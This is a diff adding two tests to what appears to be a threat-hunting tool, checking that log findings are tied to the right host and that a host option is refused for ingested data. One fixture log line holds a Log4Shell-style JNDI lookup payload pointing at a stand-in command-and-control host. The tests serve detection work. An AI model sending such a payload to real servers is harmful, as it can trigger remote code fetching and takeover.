@@ -153,3 +153,21 @@ def test_a_rule_that_cannot_load_is_named_and_drops_no_other(desk, tmp_path):
     assert done.returncode == 1
     assert "not loaded: 1" in done.stdout
     assert "bad.yml" in done.stdout
+
+
+def test_findings_in_a_log_without_a_host_are_of_the_one_that_is_said(desk, tmp_path):
+    (tmp_path / "logs/web1").mkdir()
+    line = '198.51.100.7 - - [12/May/2022:03:00:01 +0000] "GET /?x=${jndi:ldap://c2.example/a} HTTP/1.1" 200 10 "-" "curl/8"\n'
+    (tmp_path / "logs/web1/access.log").write_text(line)
+    done = desk("hunt", "logs/web1", "--host-of", "logs/{host}/*", "--json")
+    told = json.loads(done.stdout)
+    assert {finding["host"] for finding in told["findings"]} == {"web1"}
+    assert [host["name"] for host in told["field_of_view"]["hosts"]] == ["web1"]
+    assert desk("hunt", "logs/web1", "--host-of", "logs/{host}/*", "--host", "web2").returncode == 2
+
+
+def test_hosts_of_logs_are_said_only_where_logs_are_taken_in(desk):
+    desk("ingest", "logs", "--lake", "lake")
+    done = desk("hunt", "--lake", "lake", "--host-of", "web1")
+    assert done.returncode == 2
+    assert "--host-of" in done.stderr
